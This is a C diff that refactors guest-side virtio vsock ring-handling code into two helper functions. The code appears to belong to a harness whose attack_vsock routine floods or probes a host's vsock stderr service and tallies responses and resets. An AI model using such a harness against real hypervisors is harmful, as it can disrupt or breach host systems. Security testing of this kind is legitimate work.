@@ -789,34 +789,45 @@ static int vs_send_many(struct dev *d, u32 len, int n) {
     return WAIT_USED;
 }
 
+/* Gives the device every receive buffer it does not hold. Ring slot k always holds
+ * descriptor k, a 4 KiB buffer at VS_RX_BUF + 4 KiB * k: at most QSIZE buffers are
+ * outstanding, so a slot is reused only once its previous buffer came back. */
+static void vs_refill_rx(struct dev *d) {
+    struct vq *rx = &d->q[0];
+    u16 outstanding = (u16)(rx->avail_idx - rx->used_seen);
+    int k = QSIZE - outstanding;
+    if (k <= 0) return;
+    u16 heads[QSIZE];
+    for (int j = 0; j < k; j++) {
+        u16 slot = (u16)((u16)(rx->avail_idx + j) % QSIZE);
+        set_desc(rx, slot, VS_RX_BUF + 4096 * (u64)slot, 4096, F_WRITE, 0);
+        heads[j] = slot;
+    }
+    publish(d, 0, heads, k);
+}
+
+/* The receive buffer of used element `i`. */
+static u64 vs_rx_packet(struct vq *rx, u16 i) {
+    u32 id = r32(used_addr(rx) + 4 + 8 * (u64)(i % rx->size));
+    return VS_RX_BUF + 4096 * (u64)(id % QSIZE);
+}
+
 /* Connects from `src_port` to the host's stderr service and waits for the RESPONSE, draining
  * whatever the host queued before it (RSTs, credit updates). Returns the number of packets
- * drained before the RESPONSE, or -1. Ring slot k always holds descriptor k: at most QSIZE
- * buffers are outstanding, so a slot is reused only once its previous buffer came back. */
+ * drained before the RESPONSE, or -1. */
 static long vs_connect(struct dev *d, u32 src_port) {
     struct vq *rx = &d->q[0];
     vs_hdr(vs_tx_slot(0), src_port, VS_PORT_STDERR, 0, VS_OP_REQUEST, 1);
     if (vs_send_many(d, 44, 1) != WAIT_USED) return -1;
     long drained = 0;
     for (int round = 0; round < 20000; round++) {
-        u16 outstanding = (u16)(rx->avail_idx - rx->used_seen);
-        int k = QSIZE - outstanding;
-        if (k > 0) {
-            u16 heads[QSIZE];
-            for (int j = 0; j < k; j++) {
-                u16 slot = (u16)((u16)(rx->avail_idx + j) % QSIZE);
-                set_desc(rx, slot, VS_RX_BUF + 4096 * (u64)slot, 4096, F_WRITE, 0);
-                heads[j] = slot;
-            }
-            publish(d, 0, heads, k);
-        }
+        vs_refill_rx(d);
         u16 start = rx->used_seen;
         if (wait_one(d, 0, LONG_WAIT) != WAIT_USED) return -1;
         u16 end = used_idx(rx);
         rx->used_seen = end;
         for (u16 i = start; i != end; i++) {
-            u32 id = r32(used_addr(rx) + 4 + 8 * (u64)(i % rx->size));
-            u64 p = VS_RX_BUF + 4096 * (u64)(id % QSIZE);
+            u64 p = vs_rx_packet(rx, i);
             if (r16(p + 30) == VS_OP_RESPONSE && r32(p + 16) == VS_PORT_STDERR && r32(p + 20) == src_port) {
                 return drained;
             }
@@ -832,17 +843,7 @@ static long vs_drain_all(struct dev *d) {
     struct vq *rx = &d->q[0];
     long got = 0;
     for (int round = 0; round < 20000; round++) {
-        u16 outstanding = (u16)(rx->avail_idx - rx->used_seen);
-        int k = QSIZE - outstanding;
-        if (k > 0) {
-            u16 heads[QSIZE];
-            for (int j = 0; j < k; j++) {
-                u16 slot = (u16)((u16)(rx->avail_idx + j) % QSIZE);
-                set_desc(rx, slot, VS_RX_BUF + 4096 * (u64)slot, 4096, F_WRITE, 0);
-                heads[j] = slot;
-            }
-            publish(d, 0, heads, k);
-        }
+        vs_refill_rx(d);
         u16 start = rx->used_seen;
         if (wait_one(d, 0, SHORT_WAIT * 4) != WAIT_USED) break;
         got += (u16)(used_idx(rx) - start);
@@ -964,24 +965,13 @@ static void attack_vsock(struct dev *d) {
         }
         long responses = 0, rsts = 0;
         for (int round = 0; round < 1000; round++) {
-            u16 outstanding = (u16)(rx->avail_idx - rx->used_seen);
-            int k = QSIZE - outstanding;
-            if (k > 0) {
-                u16 h[QSIZE];
-                for (int j = 0; j < k; j++) {
-                    u16 slot = (u16)((u16)(rx->avail_idx + j) % QSIZE);
-                    set_desc(rx, slot, VS_RX_BUF + 4096 * (u64)slot, 4096, F_WRITE, 0);
-                    h[j] = slot;
-                }
-                publish(d, 0, h, k);
-            }
+            vs_refill_rx(d);
             u16 start = rx->used_seen;
             if (wait_one(d, 0, SHORT_WAIT * 4) != WAIT_USED) break;
             u16 end = used_idx(rx);
             rx->used_seen = end;
             for (u16 i = start; i != end; i++) {
-                u32 id = r32(used_addr(rx) + 4 + 8 * (u64)(i % rx->size));
-                u64 p = VS_RX_BUF + 4096 * (u64)(id % QSIZE);
+                u64 p = vs_rx_packet(rx, i);
                 u32 dport = r32(p + 20);
                 if (dport < 6000 || dport >= 6300) continue;
                 if (r16(p + 30) == VS_OP_RESPONSE) responses++;
